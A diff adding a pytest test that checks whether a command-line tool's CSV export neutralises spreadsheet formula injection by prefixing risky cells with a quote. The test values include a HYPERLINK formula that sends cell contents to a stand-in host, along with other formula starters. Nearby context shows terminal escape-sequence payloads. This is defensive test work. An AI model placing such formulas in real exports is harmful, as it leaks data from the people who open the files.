@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import json
 import os
 import signal
@@ -300,3 +301,28 @@ def test_show_writes_out_controls_in_the_file_name_and_the_text(
     assert "\\u001b]52;c;ZXZpbA==\\u0007 \\u009b2J\\u007f \\u2066hidden\\u2069" in shown
     assert json.loads(as_json)["text"] == text
     assert json.loads(as_json)["path"] == str(letters_dir / HOSTILE_NAME)
+
+
+# -- exports -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "note",
+    ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
+)
+def test_csv_export_cells_that_a_spreadsheet_would_run_start_with_a_quote(
+    run_cli: RunCli, write_letter: WriteLetter, letters_dir: Path, tmp_path: Path, note: str
+) -> None:
+    write_letter("reply.txt")
+    assert run_cli("import", letters_dir)[0] == 0
+    letter_id = json.loads(run_cli("search", "operator", "--json")[1].splitlines()[0])["id"]
+    assert run_cli("note", letter_id, "--", note)[0] == 0
+
+    run_cli("export", "--output", tmp_path / "out.csv")
+    run_cli("export", "--output", tmp_path / "out.jsonl")
+
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["note"] == "'" + note
+    assert row["file"] == str(letters_dir / "reply.txt")  # other cells as they were
+    assert json.loads((tmp_path / "out.jsonl").read_text())["note"] == note  # JSON unchanged
